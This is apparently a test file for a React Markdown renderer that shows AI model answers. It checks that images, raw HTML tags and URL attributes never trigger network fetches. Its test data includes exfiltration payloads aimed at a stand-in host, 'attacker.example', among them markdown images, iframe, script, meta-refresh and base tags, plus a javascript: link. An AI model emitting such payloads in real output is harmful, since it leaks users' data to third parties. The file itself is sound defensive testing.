// @vitest-environment jsdom
/**
 * The answer renderer loads nothing on its own: whatever Markdown or HTML the model writes, the page
 * must not contain an element that makes the browser fetch (an image, a frame, a script, a style
 * sheet, media, an object) nor any URL-valued attribute but a link's `href`. The browser test
 * (test/e2e/page-safety.test.ts) checks the same with a real Chromium and the network.
 */
import "@testing-library/jest-dom/vitest";
import { cleanup, render } from "@testing-library/react";
import fc from "fast-check";
import { afterEach, describe, expect, it } from "vitest";
import { Markdown } from "./Markdown.js";

afterEach(cleanup);

/** Elements whose mere presence fetches, or can (forms, bases and meta refreshes redirect). */
const FETCHING =
  "img, image, picture, source, iframe, frame, object, embed, script, link, style, video, audio, track, input, form, base, meta, svg";
/** Attributes that name a resource to load. */
const RESOURCE_ATTRIBUTES = [
  "src",
  "srcset",
  "poster",
  "data",
  "background",
  "style",
  "action",
  "formaction",
];

function fetchesOnRender(container: HTMLElement): string[] {
  const found = [...container.querySelectorAll(FETCHING)].map((el) => `<${el.tagName.toLowerCase()}>`);
  for (const el of container.querySelectorAll("*")) {
    for (const name of RESOURCE_ATTRIBUTES) if (el.hasAttribute(name)) found.push(`${el.tagName}[${name}]`);
  }
  return found;
}

const EXFIL = "https://attacker.example/p.png?code=function%20twoSum";

describe("images the model names", () => {
  it.each([
    ["inline", `![the two-pointer idea](${EXFIL})`, "[image not shown: the two-pointer idea]"],
    ["with a title", `![diagram](${EXFIL} "Figure 1")`, "[image not shown: diagram]"],
    ["by reference", `![sketch][pic]\n\n[pic]: ${EXFIL}`, "[image not shown: sketch]"],
    ["without alt text", `![](${EXFIL})`, "[image not shown]"],
    ["inside a link", `[![badge](${EXFIL})](https://example.com/)`, "[image not shown: badge]"],
    ["as a data URL", "![dot](data:image/png;base64,iVBORw0KGgo=)", "[image not shown: dot]"],
    ["relative to the page", "![x](/api/steal?q=1)", "[image not shown: x]"],
  ])("%s: shows the alt text and loads nothing", (_what, text, shown) => {
    const { container } = render(<Markdown text={`Look:\n\n${text}\n`} />);
    expect(fetchesOnRender(container)).toEqual([]);
    expect(container.textContent).toContain(shown);
    expect(container.innerHTML).not.toContain("attacker.example/p.png");
  });
});

describe("raw HTML in an answer is dropped", () => {
  it.each([
    `<img src="${EXFIL}">`,
    `<img srcset="${EXFIL} 2x" alt="x">`,
    `<picture><source srcset="${EXFIL}"></picture>`,
    `<iframe src="${EXFIL}"></iframe>`,
    `<script src="${EXFIL}"></script>`,
    `<link rel="stylesheet" href="${EXFIL}">`,
    `<style>body{background:url(${EXFIL})}</style>`,
    `<video poster="${EXFIL}"></video><audio src="${EXFIL}"></audio>`,
    `<object data="${EXFIL}"></object><embed src="${EXFIL}">`,
    `<svg><image href="${EXFIL}"/></svg>`,
    `<p style="background:url(${EXFIL})">styled</p>`,
    `<form action="${EXFIL}"><input type="image" src="${EXFIL}"></form>`,
    `<meta http-equiv="refresh" content="0;url=${EXFIL}">`,
    `<base href="https://attacker.example/">`,
  ])("%s", (html) => {
    for (const text of [html, `Some prose ${html} inline.`, `- item\n\n  ${html}\n`]) {
      const { container } = render(<Markdown text={text} />);
      expect(fetchesOnRender(container)).toEqual([]);
      cleanup();
    }
  });
});

it("keeps links as links the user must click, opened with no referrer", () => {
  const { container } = render(
    <Markdown text="See [the docs](https://developer.mozilla.org/) or <https://example.com/>." />,
  );
  const links = [...container.querySelectorAll("a")];
  expect(links.map((a) => a.getAttribute("href"))).toEqual([
    "https://developer.mozilla.org/",
    "https://example.com/",
  ]);
  for (const a of links) expect(a.getAttribute("rel")).toBe("noopener noreferrer");
  expect(
    render(<Markdown text="[x](javascript:alert(1))" />)
      .container.querySelector("a")
      ?.getAttribute("href"),
  ).toBe("");
});

it("for any mix of prose, code, links, images and HTML, nothing on the page fetches", () => {
  const url = fc.constantFrom(
    EXFIL,
    "http://127.0.0.1:9/leak",
    "//attacker.example/x",
    "data:image/gif;base64,R0lGOD",
  );
  const piece = fc.oneof(
    fc.constantFrom(
      "Prose with *emphasis*.",
      "`inline code`",
      "```js\nconst x = 1;\n```",
      "> quoted",
      "1. step",
      "| a | b |\n|---|---|\n| 1 | 2 |",
    ),
    url.map((u) => `![alt](${u})`),
    url.map((u) => `[link](${u})`),
    url.map((u) => `![ref][r]\n\n[r]: ${u}`),
    url.map((u) => `<img src="${u}">`),
    url.map((u) => `<iframe src="${u}"></iframe>`),
    fc.string({ maxLength: 20 }),
  );
  fc.assert(
    fc.property(
      fc.array(piece, { minLength: 1, maxLength: 8 }),
      fc.constantFrom("\n", "\n\n", " ", "\r\n"),
      (pieces, sep) => {
        const { container } = render(<Markdown text={pieces.join(sep)} />);
        const found = fetchesOnRender(container);
        cleanup();
        expect(found).toEqual([]);
      },
    ),
    { numRuns: 200, seed: 2412 },
  );
});
